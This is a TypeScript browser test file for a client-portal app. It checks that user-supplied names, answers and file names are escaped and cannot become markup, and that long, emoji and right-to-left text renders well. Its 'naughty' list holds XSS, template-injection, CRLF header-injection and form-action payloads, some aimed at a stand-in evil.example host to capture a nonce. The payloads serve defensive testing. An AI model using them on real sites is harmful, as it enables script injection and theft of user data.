import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { openStage } from './support/stage'
import { eachLook } from '../../../tools/looks'
import {
  actionOf,
  fetchPage,
  filledForm,
  sectionLinks,
  tasksOf,
  visit,
  type Visited,
} from './support/visitor'
import { linkTo, openWorld, type World } from './support/world'

const naughty = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '` onmouseover=alert(1) `',
  '</title></style></textarea></select></option><svg onload=alert(1)>',
  '</textarea><form action=//evil.example><input name=nonce value=x>',
  '<!-- <base href=//evil.example> -->',
  ']]><![CDATA[<a href=javascript:alert(1)>x</a>',
  '&lt;b&gt; &amp; &#60;i&#62; &nbsp',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
  '\u202egnp.exe\u202c \u2066isolated\u2069 \u200f',
  'مرحبا بالعالم <ما>',
  '👩‍👩‍👧‍👦🏴‍☠️'.repeat(12),
  'W'.repeat(200),
  'Z\u0351\u036b\u0343\u036aa\u0302\u036b\u033dl\u034fg\u0317o\u0348',
  '%3Cscript%3E%0d%0aLocation:%20//evil.example',
]

let world: World
const stage = openStage((request) => world.handle(request))

/** The words without the marks that a firm's name may not have: they turn the direction of what stands around them. */
function unturned(words: string): string {
  return words.replace(/\p{Bidi_Control}/gu, '')
}

/** Every page of a link in a firm where every name, label, answer and file is called the same. */
async function pagesCalled(words: string): Promise<readonly Visited[]> {
  world = await openWorld()
  const { system } = world
  await system.settings.put({ timeZone: 'America/New_York', firmName: unturned(words) })
  await system.clients.put({ id: 'ana', firstName: words, lastName: words })
  await system.cases.put({ id: 'ruiz', name: words, clientIds: ['ana'] })
  const named = (key: string) => ({ key, name: words, description: words })
  const choices = { choices: [{ id: 'a', label: words }] }
  const link = await linkTo(
    world,
    [
      {
        key: 'one',
        name: words,
        tasks: [
          { ...named('short'), type: 'shortText', due: { days: 1 } },
          { ...named('long'), type: 'longText' },
          { ...named('signed'), type: 'signature' },
          { ...named('radio'), type: 'radio', options: choices },
          { ...named('drop'), type: 'dropdown', options: choices },
          { ...named('many'), type: 'shortText', multiple: true },
          { ...named('file'), type: 'files' },
        ],
      },
      { key: 'two', name: words, tasks: [{ ...named('number'), type: 'number' }] },
    ],
    { name: words },
  )
  const on = (key: string) => ({ caseId: 'ruiz', key })
  for (const key of ['short', 'long', 'signed']) await system.tasks.saveDraft({ ...on(key), answer: words })
  await system.tasks.saveDraft({ ...on('many'), answer: [words, words] })
  const file = { ...on('file'), name: words.replace(/[/\\]/g, '|'), bytes: new TextEncoder().encode('x') }
  const { blob } = await system.links.upload(file)
  await system.tasks.saveDraft({ ...on('file'), answer: [{ blob }] })

  const overview = await visit(world, link)
  const [first = '', second = ''] = sectionLinks(overview)
  const drafts = await visit(world, first)
  const two = await visit(world, second)
  const form = new FormData()
  const wrong = await fetchPage(world, first, { method: 'POST', body: form })
  const refused = await pressNumber(two, words)
  for (const key of ['short', 'long', 'signed']) await system.tasks.complete({ ...on(key), answer: words })
  for (const key of ['radio', 'drop']) await system.tasks.complete({ ...on(key), answer: 'a' })
  await system.tasks.complete({ ...on('many'), answer: [words, words] })
  await system.tasks.complete({ ...on('file'), answer: [{ blob }] })
  const sent = await visit(world, first)
  const receipt = await pressNumber(refused, '7')
  return [overview, drafts, wrong, refused, sent, receipt]
}

/** Sends a page that asks one number, whatever its task is called. */
async function pressNumber(page: Visited, value: string): Promise<Visited> {
  const [task] = tasksOf(page)
  const form = filledForm(page, {}, 'send')
  form.set(`a.${task?.id ?? ''}`, value)
  return visit(world, actionOf(page), { method: 'POST', body: form })
}

/** The elements of each page with the names of their attributes, in order, as a browser parses them. */
async function skeletons(pages: readonly Visited[]): Promise<readonly string[]> {
  const page = await stage.browser.newPage()
  const found = await page.evaluate(
    (htmls) => {
      const { DOMParser } = globalThis as unknown as {
        DOMParser: new () => {
          parseFromString(
            html: string,
            type: string,
          ): { querySelectorAll(all: string): Iterable<ElementLike> }
        }
      }
      interface ElementLike {
        readonly tagName: string
        getAttributeNames(): string[]
        getAttribute(name: string): string
      }
      return htmls.map((html) =>
        [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')]
          .map((each) => {
            const addresses = ['href', 'src', 'action']
              .filter((name) => each.getAttributeNames().includes(name))
              .filter((name) => !/^(\/l\/|#|data:,$|\?ask$)/.test(each.getAttribute(name)))
            // The direction of most of a name's letters, which is one of two.
            const turned = each.tagName === 'BDI' && /^(ltr|rtl)$/.test(each.getAttribute('dir'))
            return [
              each.tagName,
              ...each.getAttributeNames().filter((name) => !turned || name !== 'dir'),
              ...addresses.map((name) => `foreign ${name}`),
            ].join(' ')
          })
          .join('\n'),
      )
    },
    pages.map(({ html }) => html),
  )
  await page.close()
  return found
}

it('no name, label, answer or file name becomes an element, an attribute or an address', async () => {
  const plain = await skeletons(await pagesCalled('Plain words'))
  expect(plain.map((each) => each.includes('foreign'))).toEqual(plain.map(() => false))
  expect(new Set(plain).size).toBe(plain.length)
  for (const words of naughty) {
    const pages = await pagesCalled(words)
    const found = await skeletons(pages)
    for (const [at, skeleton] of found.entries())
      expect([words, at, skeleton]).toEqual([words, at, plain[at]])
    for (const { headers } of pages) expect(JSON.stringify([...headers])).not.toContain('evil.example')
  }
}, 120_000)

it('very long words, emoji and right-to-left names fit a phone and pass axe', async () => {
  for (const [at, words] of ['W'.repeat(200), 'مرحبا بالعالم <ما>', '👩‍👩‍👧‍👦🏴‍☠️'.repeat(12)].entries()) {
    const pages = await pagesCalled(words)
    const [overview, section, , , , receipt] = pages
    for (const [name, { html }] of Object.entries({
      overview: overview!,
      section: section!,
      receipt: receipt!,
    })) {
      const show = async (page: Page) => {
        await page.goto(`${stage.origin}/l/none`)
        await page.setContent(html)
      }
      await eachLook(stage.browser, `naughty-${at}-${name}`, show, [['light', 390]])
    }
  }
}, 120_000)
